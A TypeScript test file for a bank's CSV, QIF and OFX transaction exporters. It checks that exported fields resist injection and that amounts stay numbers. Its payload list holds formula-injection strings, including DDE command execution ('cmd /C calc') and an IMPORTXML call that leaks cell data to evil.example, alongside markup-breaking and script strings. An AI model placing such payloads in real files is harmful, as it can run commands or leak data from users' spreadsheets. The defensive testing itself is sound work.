import { dayFrom } from '@bank/kernel/day.ts';
import { cents } from '@bank/kernel/money.ts';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readCsv, readOfx, readQif } from '../../testing/read-exports.ts';
import { csvExporter, textCell } from './csv.ts';
import type { ExportedLine, Exporter } from './exported.ts';
import { ofxExporter, type OfxAccount } from './ofx.ts';
import { qifExporter } from './qif.ts';

/** Hostile cell contents: formulas, line and record ends, markup, other scripts. */
const payloads: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  '+cmd|x',
  '-1+1',
  '-2+3+cmd|x',
  '-45.00',
  '@SUM(1+1)*cmd',
  '@import',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20x',
  '"=1+1"',
  "'=1+1",
  'a,b',
  'a"b',
  'a\nb',
  'a\r\nb',
  '^',
  'x^y',
  '^\n!Type:Bank',
  'D01/01/2020',
  'a\u2028b',
  '</MEMO></STMTTRN><STMTTRN>',
  '<![CDATA[x]]>',
  '&amp;',
  '&#0;',
  '<script>alert(1)</script>',
  ']]>',
  '\u0000\u0007',
  '房租，十月',
  '😀'.repeat(20),
  'x'.repeat(400),
];

const line: ExportedLine = {
  day: dayFrom('2026-10-31'),
  id: '01a1df3e-b73f-764b-93bf-bea546b578e9.0',
  reference: 'TRF-4K7Q-M2',
  description: 'Casco Electric',
  type: 'Payment',
  code: 'PAYMENT',
  amount: cents(-13_218),
  balance: cents(573_223),
};

function written(exporter: Exporter, lines: readonly ExportedLine[]): string {
  return exporter.head() + lines.map((each) => exporter.line(each)).join('') + exporter.foot();
}

const columns = ['Date', 'Description', 'Type', 'Amount', 'Balance', 'Reference'];

function ofx(kind: OfxAccount['kind'], available: number | null = 295_000): Exporter {
  return ofxExporter({
    issuer: 'Keelson & Sons',
    language: 'ENG',
    account: { kind, lastFour: '4821', routingNumber: '990018429' },
    madeAt: new Date('2026-11-15T12:00:00Z'),
    start: dayFrom('2026-10-01'),
    end: dayFrom('2026-10-31'),
    closing: cents(-5_000),
    available: available === null ? null : cents(available),
  });
}

test('there are forty of them', () => {
  expect(new Set(payloads).size).toBe(40);
});

describe.each(['description', 'type', 'reference'] as const)('T13 in the field %s', (field) => {
  const lines = payloads.map((text) => ({ ...line, [field]: text }));

  test('a spreadsheet computes nothing, loses nothing, and numbers stay numbers', () => {
    const [head, ...rows] = readCsv(written(csvExporter(columns), lines));
    expect(head).toEqual(columns);
    const at = { description: 1, type: 2, reference: 5 }[field];
    rows.forEach((row, index) => {
      const text = row[at] ?? '';
      expect(text).not.toMatch(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/);
      expect([payloads[index], `'${payloads[index]}`].map(String)).toContain(text);
      expect([row[0], row[3], row[4]]).toEqual(['2026-10-31', '-132.18', '5732.23']);
    });
    expect(rows).toHaveLength(payloads.length);
  });

  test('no text ends a record of QIF or begins a line of it', () => {
    const read = readQif(written(qifExporter('Bank'), lines));
    expect(read.type).toBe('Bank');
    expect(read.records).toHaveLength(payloads.length);
    for (const record of read.records) {
      expect([...record.keys()].toSorted()).toEqual(['C', 'D', 'M', 'N', 'P', 'T']);
      expect([...record.values()].join('')).not.toContain('^');
      expect([record.get('D'), record.get('T')]).toEqual(['10/31/2026', '-132.18']);
    }
  });

  test('no text of OFX becomes an element of it', () => {
    const read = readOfx(written(ofx('CHECKING'), lines));
    const transactions = read.all('STMTTRN');
    expect(transactions).toHaveLength(payloads.length);
    for (const each of transactions) {
      expect(each.names()).toEqual(['TRNTYPE', 'DTPOSTED', 'TRNAMT', 'FITID', 'REFNUM', 'NAME', 'MEMO']);
      expect(each.text('TRNAMT')).toBe('-132.18');
    }
  });
});

test('an amount below zero is a number and no formula', () => {
  expect(written(csvExporter(columns), [line])).toContain(',-132.18,5732.23,');
  expect(textCell('-132.18')).toBe("'-132.18");
});

test('what other programs read of a line is what was in it', () => {
  const text = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 });
  const any = fc.record({ description: text, amount: fc.integer({ min: -1e12, max: 1e12 }) });
  fc.assert(
    fc.property(fc.array(any, { maxLength: 8 }), (drawn) => {
      const lines = drawn.map(({ description, amount }) => ({ ...line, description, amount: cents(amount) }));
      const encoded = drawn.map(({ amount }) => {
        const digits = String(Math.abs(amount)).padStart(3, '0');
        return `${amount < 0 ? '-' : ''}${digits.slice(0, -2)}.${digits.slice(-2)}`;
      });
      expect(
        readCsv(written(csvExporter(columns), lines))
          .slice(1)
          .map((row) => row[3]),
      ).toEqual(encoded);
      expect(readQif(written(qifExporter('Bank'), lines)).records.map((each) => each.get('T'))).toEqual(
        encoded,
      );
      const read = readOfx(written(ofx('CHECKING'), lines)).all('STMTTRN');
      expect(read.map((each) => each.text('TRNAMT'))).toEqual(encoded);
    }),
    { numRuns: 300 },
  );
});

describe('OFX', () => {
  test('a deposit account: its bank, the end of its number, what stands in it', () => {
    const read = readOfx(written(ofx('SAVINGS'), [line]));
    const account = read.one('BANKMSGSRSV1').one('BANKACCTFROM');
    expect([account.text('BANKID'), account.text('ACCTID'), account.text('ACCTTYPE')]).toEqual([
      '990018429',
      'XXXX4821',
      'SAVINGS',
    ]);
    expect(read.one('LEDGERBAL').text('BALAMT')).toBe('-50.00');
    expect(read.one('AVAILBAL').text('BALAMT')).toBe('2950.00');
    expect(read.one('FI').text('ORG')).toBe('Keelson & Sons');
    expect(read.one('STMTTRN').text('FITID')).toBe(line.id);
    expect(read.one('STMTTRN').text('DTPOSTED')).toBe('20261031120000');
  });

  test('[CRED-07] a credit account has the messages of cards, and no bank', () => {
    const read = readOfx(written(ofx('CREDITCARD'), [line]));
    const messages = read.one('CREDITCARDMSGSRSV1').one('CCSTMTRS');
    expect(messages.one('CCACCTFROM').names()).toEqual(['ACCTID']);
    expect(read.all('BANKACCTFROM')).toHaveLength(0);
    expect(readOfx(written(ofx('CREDITCARD', null), [line])).all('AVAILBAL')).toHaveLength(0);
  });
});

test('[CRED-07, STUD-04] QIF tells a card from an account of deposits', () => {
  expect(readQif(written(qifExporter('CCard'), [line])).type).toBe('CCard');
  expect(readQif(written(qifExporter('Bank'), [line])).type).toBe('Bank');
});

test('a line without a reference has none in the file: an id of ours is no substitute', () => {
  const bare = { ...line, reference: null };
  expect(readCsv(written(csvExporter(columns), [bare]))[1]?.[5]).toBe('');
  expect(readQif(written(qifExporter('Bank'), [bare])).records[0]?.has('N')).toBe(false);
  expect(
    readOfx(written(ofx('CHECKING'), [bare]))
      .one('STMTTRN')
      .names(),
  ).not.toContain('REFNUM');
});
